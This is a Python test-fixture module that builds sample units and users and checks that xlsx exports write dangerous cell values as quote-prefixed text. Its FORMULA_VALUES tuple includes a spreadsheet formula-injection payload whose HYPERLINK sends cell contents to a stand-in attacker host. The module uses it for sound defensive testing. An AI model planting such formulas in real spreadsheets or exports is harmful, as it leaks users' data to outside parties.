"""Builders for test data: sensible defaults, override what the test is about."""

from __future__ import annotations

import itertools

from sqlalchemy import select

from core import accounts, clock, units
from core.db import session
from core.models import Unit

_seq = itertools.count(1)


def some_unit(level: str = "county") -> Unit:
    return session.execute(select(Unit).where(Unit.level == level).order_by(Unit.id).limit(1)).scalar_one()


def make_unit(**overrides) -> Unit:
    n = next(_seq)
    values = {"name": f"测试单位{n}", "level": "township", "kind": "township", "area": "北林区",
              "parent_id": some_unit("county").id}
    values.update(overrides)
    return units.create_unit(actor=None, now=clock.now(), **values)


def make_user(role: str = "operator", password: str = "Passw0rd!", **overrides):
    n = next(_seq)
    values = {"username": f"{role}{n}", "display_name": f"测试{role}{n}", "unit_id": None}
    if role == "caseworker":
        values["unit_id"] = some_unit("county").id
    values.update(overrides)
    return accounts.create_user(actor=None, now=clock.now(), role=role, password=password, **values)


#: Values a spreadsheet would run as formulas: every export must write them as text.
FORMULA_VALUES = ('=HYPERLINK("http://evil.example/?d="&A1,"详情")', "+1", "-2+3", "@SUM(A1)", "\t=1+1")


def formula_cells(data: bytes) -> dict:
    """The cells of an xlsx export whose value is one of FORMULA_VALUES, by value."""
    import io

    from openpyxl import load_workbook

    found: dict = {}
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in FORMULA_VALUES:
                    found.setdefault(cell.value, []).append(cell)
    return found


def assert_written_as_text(data: bytes) -> None:
    """Each of FORMULA_VALUES is in the workbook, unchanged, typed as text and quote-prefixed."""
    found = formula_cells(data)
    assert set(found) == set(FORMULA_VALUES), sorted(found)
    cells = [cell for group in found.values() for cell in group]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
